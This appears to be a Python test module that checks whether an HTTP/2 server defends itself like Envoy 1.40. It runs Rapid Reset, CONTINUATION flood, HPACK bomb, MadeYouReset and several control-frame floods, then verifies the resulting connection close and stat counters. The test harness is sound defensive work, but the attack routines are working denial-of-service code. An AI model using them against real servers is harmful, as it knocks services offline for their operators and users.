"""HTTP/2 attack tests. Each floods or abuses one connection and checks three
things: the server defends itself the way Envoy 1.40 does (the connection closed,
with or without GOAWAY, or the abusive streams reset), the stat Envoy counts it
under went up on the admin endpoint, and a fresh connection right after is
served. Every attack is bounded (a few seconds at most); none sleeps to
synchronise.

What Envoy 1.40 does (recorded with tests/h2conformance/envoy.py) is in each
attack's requirement text and in README.md.
"""

import time

from client import (
    CONTINUATION, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, Conn, data_frame, err_name, frame,
    ping_frame, priority_frame, rst_frame, settings_frame, stat, window_update_frame,
)
from hyperframe.frame import GoAwayFrame, RstStreamFrame
from verify import Fail, fresh_request_served

from cases import get_block, hstr, lit

ATTACKS = []
SMALL_RCVBUF = 4096


def attack(cid, requirement):
    def deco(fn):
        ATTACKS.append((cid, requirement, fn))
        return fn
    return deco


def hdr(stream_id, blk, end_stream=True, end_headers=True):
    return frame(HEADERS, (END_STREAM if end_stream else 0) | (END_HEADERS if end_headers else 0), stream_id, blk)


def flood(c, chunk, count, batch=200):
    """Sends `chunk` `count` times (in writes of `batch`) without reading; stops
    early when the server closes. Returns how many were sent."""
    sent = 0
    data = chunk * batch
    while sent < count:
        if not c.try_send(data):
            return sent
        sent += batch
    return sent


def outcome(c, timeout=2.0, stop_on=()):
    """How the connection ended up, reading (and discarding) what the server sent:
    'goaway:<CODE>+closed', 'closed', 'goaway:<CODE>+open' or 'open'; and a dict
    counting the RST_STREAM codes and response statuses ('status:431') seen.
    Reading stops early when one of `stop_on` is seen (the defence the attack
    looks for: no need to wait for more)."""
    goaway = None
    seen = {}
    for ev in c.events(timeout):
        if ev.kind == "closed":
            return ("goaway:%s+closed" % goaway if goaway else "closed"), seen
        f = ev.frame
        key = None
        if isinstance(f, GoAwayFrame) and goaway is None:
            goaway = err_name(f.error_code)
        elif isinstance(f, RstStreamFrame):
            key = err_name(f.error_code)
        elif ev.headers is not None and f.stream_id > 1:
            key = "status:%s" % dict(ev.headers).get(":status")
        if key:
            seen[key] = seen.get(key, 0) + 1
            if key in stop_on:
                break
    return ("goaway:%s+open" % goaway if goaway else "open"), seen


# Any of these on the abusive stream counts as "the stream was refused".
REFUSALS = ["PROTOCOL_ERROR", "REFUSED_STREAM", "INTERNAL_ERROR", "ENHANCE_YOUR_CALM", "status:431"]


def check(ctx, names, before, how, seen, want_closed=True, want_reset=None):
    """The verdict shared by all attacks: the connection closed (or, with
    `want_reset`, a stream refused that way), one of the stats `names` went up,
    and a fresh connection is served."""
    # The stat may be counted a moment after the client sees the close: poll it.
    deadline = time.monotonic() + 1
    while True:
        after = stats(ctx, names)
        if any(after[n] > before[n] for n in names) or time.monotonic() > deadline:
            break
        time.sleep(0.02)
    parts = ["%s (seen %s)" % (how, seen or "nothing")]
    if want_reset:
        if not (how.endswith("closed") or any(r in seen for r in want_reset)):
            raise Fail("no stream refused (%s) and the connection stayed open: %s" % ("/".join(want_reset), parts[0]))
    elif want_closed and not how.endswith("closed"):
        raise Fail("the connection was not closed: %s" % parts[0])
    up = [n for n in names if after[n] > before[n]]
    if not up:
        raise Fail("none of %s went up (%s -> %s); %s" % (", ".join(names), before, after, parts[0]))
    parts += ["%s %d -> %d" % (n, before[n], after[n]) for n in up]
    parts.append(fresh_request_served(ctx.port))
    return "; ".join(parts)


def stats(ctx, names):
    return {n: stat(ctx.admin, n) for n in names}


def connect(ctx, settings=(), rcvbuf=None):
    return Conn(ctx.port, timeout=ctx.timeout, rcvbuf=rcvbuf).handshake(settings)


@attack("attack/rapid-reset", "CVE-2023-44487: HEADERS then RST_STREAM, thousands of times. Envoy closes the "
        "connection once more than half of its streams were reset before 1 s (after 500 streams); "
        "http.<prefix>.downstream_rq_too_many_premature_resets")
def _(ctx):
    names = ["http.h2conf.downstream_rq_too_many_premature_resets"]
    before = stats(ctx, names)
    c = connect(ctx)
    blk = get_block("/up")
    sid = 1
    deadline = time.monotonic() + 5
    while sid < 2 * 5000 and time.monotonic() < deadline:
        chunk = b"".join(hdr(s, blk, end_stream=True) + rst_frame(s) for s in range(sid, sid + 200, 2))
        if not c.try_send(chunk):
            break
        sid += 200
    how, resets = outcome(c)
    return check(ctx, names, before, how, resets)


@attack("attack/continuation-flood", "CVE-2024-27919: endless CONTINUATION frames. Envoy stops at "
        "max_request_headers_kb and closes the connection; http2.header_overflow")
def _(ctx):
    names = ["http2.header_overflow"]
    before = stats(ctx, names)
    c = connect(ctx)
    c.send(hdr(1, get_block(), end_headers=False))
    crumb = b"".join(lit("x-flood-%d" % i, "v" * 100) for i in range(100))
    sent = flood(c, frame(CONTINUATION, 0, 1, crumb), 1000, batch=10)
    how, resets = outcome(c)
    return check(ctx, names, before, how, resets) + "; %d CONTINUATION frames sent" % sent


@attack("attack/hpack-bomb", "HPACK amplification: one 4 KB header in the dynamic table referenced by 1-byte "
        "indexes 2000 times (8 MB decoded). Envoy refuses the stream (RST_STREAM INTERNAL_ERROR) over "
        "max_request_headers_kb and keeps the connection; http2.header_list_size_too_large (nghttp2's "
        "check) or http2.header_overflow")
def _(ctx):
    names = ["http2.header_list_size_too_large", "http2.header_overflow"]
    before = stats(ctx, names)
    c = connect(ctx)
    # Literal with incremental indexing: dynamic index 62 is x-bomb: 4000 bytes.
    c.send(hdr(1, get_block() + b"\x40" + hstr("x-bomb") + hstr("b" * 4000)))
    c.response(1)
    c.send(hdr(3, get_block() + b"\xbe" * 2000))
    how, seen = outcome(c, stop_on=REFUSALS)
    return check(ctx, names, before, how, seen, want_reset=REFUSALS)


@attack("attack/cookie-crumbs", "Many cookie crumbs (1000 1-byte-indexed cookie fields): over max_headers_count "
        "(100). Envoy refuses the stream (RST_STREAM INTERNAL_ERROR) and keeps the connection; "
        "http2.header_overflow")
def _(ctx):
    names = ["http2.header_overflow"]
    before = stats(ctx, names)
    c = connect(ctx)
    # cookie (static index 32) with incremental indexing: dynamic index 62.
    c.send(hdr(1, get_block() + b"\x60" + hstr("a=b")))
    c.response(1)
    c.send(hdr(3, get_block() + b"\xbe" * 1000))
    how, seen = outcome(c, stop_on=REFUSALS)
    return check(ctx, names, before, how, seen, want_reset=REFUSALS)


def control_flood(ctx, one):
    """Sends `one` (a control frame the server must answer) in batches of 500,
    never reading, until the server closes or 4 s pass. Each batch waits (up to
    50 ms) for the server's downstream_cx_rx_bytes_total to show it was read, so
    that the server sees fewer than 1000 frames per read: else nghttp2's own queue
    limit (which Envoy does not count in any stat) fires before Envoy's outbound
    control frame limit."""
    rx = "http.h2conf.downstream_cx_rx_bytes_total"
    c = connect(ctx, rcvbuf=SMALL_RCVBUF)
    deadline = time.monotonic() + 4
    sent = 0
    chunk = one * 500
    read_so_far = stat(ctx.admin, rx)
    while time.monotonic() < deadline and c.try_send(chunk):
        sent += 500
        read_so_far += len(chunk)
        wait_until = time.monotonic() + 0.05
        while time.monotonic() < wait_until and stat(ctx.admin, rx) < read_so_far:
            pass
    how, seen = outcome(c)
    return how, seen, sent


@attack("attack/settings-flood", "SETTINGS flood without reading the ACKs: Envoy's outbound control frame limit "
        "(max_outbound_control_frames 1000) closes the connection; http2.outbound_control_flood")
def _(ctx):
    names = ["http2.outbound_control_flood"]
    before = stats(ctx, names)
    how, seen, sent = control_flood(ctx, settings_frame())
    return check(ctx, names, before, how, seen) + "; %d SETTINGS sent" % sent


@attack("attack/ping-flood", "PING flood without reading the ACKs: the outbound control frame limit closes "
        "the connection; http2.outbound_control_flood")
def _(ctx):
    names = ["http2.outbound_control_flood"]
    before = stats(ctx, names)
    how, seen, sent = control_flood(ctx, ping_frame(b"floodpin"))
    return check(ctx, names, before, how, seen) + "; %d PINGs sent" % sent


@attack("attack/empty-data-flood", "DATA frames with no payload and no END_STREAM: Envoy allows 1 in a row "
        "(max_consecutive_inbound_frames_with_empty_payload) and closes the connection; "
        "http2.inbound_empty_frames_flood")
def _(ctx):
    names = ["http2.inbound_empty_frames_flood"]
    before = stats(ctx, names)
    c = connect(ctx)
    c.send(hdr(1, get_block("/up", method="POST"), end_stream=False))
    sent = flood(c, data_frame(1, b""), 1000, batch=100)
    how, resets = outcome(c)
    return check(ctx, names, before, how, resets) + "; %d empty DATA sent" % sent


@attack("attack/priority-flood", "PRIORITY flood: over max_inbound_priority_frames_per_stream (100) per opened "
        "stream Envoy closes the connection; http2.inbound_priority_frames_flood")
def _(ctx):
    names = ["http2.inbound_priority_frames_flood"]
    before = stats(ctx, names)
    c = connect(ctx)
    c.send(hdr(1, get_block("/up", method="POST"), end_stream=False))
    sent = flood(c, priority_frame(1, depends_on=0, weight=10), 20000, batch=500)
    how, resets = outcome(c)
    return check(ctx, names, before, how, resets) + "; %d PRIORITY sent" % sent


@attack("attack/window-update-flood", "WINDOW_UPDATE flood: over max_inbound_window_update_frames_per_data_frame_sent "
        "Envoy closes the connection; http2.inbound_window_update_frames_flood")
def _(ctx):
    names = ["http2.inbound_window_update_frames_flood"]
    before = stats(ctx, names)
    c = connect(ctx)
    sent = flood(c, window_update_frame(0, 1), 20000, batch=500)
    how, resets = outcome(c)
    return check(ctx, names, before, how, resets) + "; %d WINDOW_UPDATE sent" % sent


@attack("attack/stream-limit", "Streams over SETTINGS_MAX_CONCURRENT_STREAMS (100): RFC 9113 allows "
        "RST_STREAM REFUSED_STREAM or a connection error PROTOCOL_ERROR. Envoy (nghttp2) closes the connection "
        "(no GOAWAY reaches the client); http.<prefix>.downstream_cx_protocol_error, or http2.tx_reset for a "
        "server that refuses the streams")
def _(ctx):
    names = ["http.h2conf.downstream_cx_protocol_error", "http2.tx_reset"]
    before = stats(ctx, names)
    c = connect(ctx, [(INITIAL_WINDOW_SIZE, 0)])
    limit = c.server_settings.get(0x3, 100)
    blk = get_block()
    c.send(b"".join(hdr(2 * i + 1, blk) for i in range(limit + 50)))
    how, seen = outcome(c)
    return check(ctx, names, before, how, seen, want_reset=["REFUSED_STREAM", "PROTOCOL_ERROR"])


@attack("attack/slow-reader", "A client that never reads (4 KB receive buffer, huge flow-control windows) and "
        "keeps sending requests for 16 KB responses: the server must bound what it buffers for it. Envoy stops sending into the full "
        "socket (its pending send stays small), its streams stay open, and the client's stream 101 closes the "
        "connection (nghttp2: over SETTINGS_MAX_CONCURRENT_STREAMS); http.<prefix>.downstream_cx_protocol_error, "
        "or http2.outbound_flood / http2.tx_reset for a server that stops it another way")
def _(ctx):
    names = ["http.h2conf.downstream_cx_protocol_error", "http2.outbound_flood", "http2.tx_reset"]
    before = stats(ctx, names)
    c = connect(ctx, [(INITIAL_WINDOW_SIZE, 0x7FFFFFFF)], rcvbuf=SMALL_RCVBUF)
    c.send(window_update_frame(0, 0x7FFFFFFF - 65535))
    # 16 KB responses: far more than any socket buffer holds after a few hundred.
    blk = get_block("/up", [("x-test-body-size", "16384")])
    sid = 1
    deadline = time.monotonic() + 6
    most_pending = 0
    # Waves of 50 requests. Before each wave, wait (up to 0.3 s) for the server's
    # streams_active gauge to drop below 50: while the server can still write, no
    # stream is refused; once it cannot, the waves go on regardless (the abuse).
    while sid < 2 * 20000 and time.monotonic() < deadline:
        if not c.try_send(b"".join(hdr(s, blk) for s in range(sid, sid + 100, 2))):
            break
        sid += 100
        wait_until = time.monotonic() + 0.3
        while time.monotonic() < wait_until:
            most_pending = max(most_pending, stat(ctx.admin, "http2.pending_send_bytes"))
            if stat(ctx.admin, "http2.streams_active") < 50:
                break
            if any(stat(ctx.admin, n) > before[n] for n in names):
                wait_until = 0
    how, seen = outcome(c)
    if most_pending > 16 << 20:
        raise Fail("the server buffered %d bytes for a client that does not read" % most_pending)
    return (check(ctx, names, before, how, seen, want_reset=["REFUSED_STREAM", "ENHANCE_YOUR_CALM"])
            + "; %d requests sent; largest http2.pending_send_bytes %d" % (sid // 2, most_pending))


@attack("attack/made-you-reset", "CVE-2025-8671 (MadeYouReset): the client makes the server reset its streams "
        "(each new stream's DATA overruns its content-length: a stream error the server must answer with "
        "RST_STREAM), thousands of times. Envoy counts those resets as premature and closes the connection; "
        "http.<prefix>.downstream_rq_too_many_premature_resets")
def _(ctx):
    names = ["http.h2conf.downstream_rq_too_many_premature_resets"]
    before = stats(ctx, names)
    c = connect(ctx)
    blk = get_block("/up", [("content-length", "1")], "POST")
    sid = 1
    deadline = time.monotonic() + 6
    # Waves of 40 streams, each reset by the server; a PING after each wave tells
    # when the server processed it, so the concurrency limit is never exceeded.
    while sid < 2 * 5000 and time.monotonic() < deadline:
        wave = b"".join(hdr(s, blk, end_stream=False) + data_frame(s, b"xx", end_stream=True)
                        for s in range(sid, sid + 80, 2))
        sid += 80
        if not c.try_send(wave, ping_frame(b"wave-end")):
            break
        if c.ping_roundtrip(data=b"wave-end", send=False) is not None:
            break
    how, seen = outcome(c)
    return check(ctx, names, before, how, seen) + "; %d streams opened" % (sid // 2)
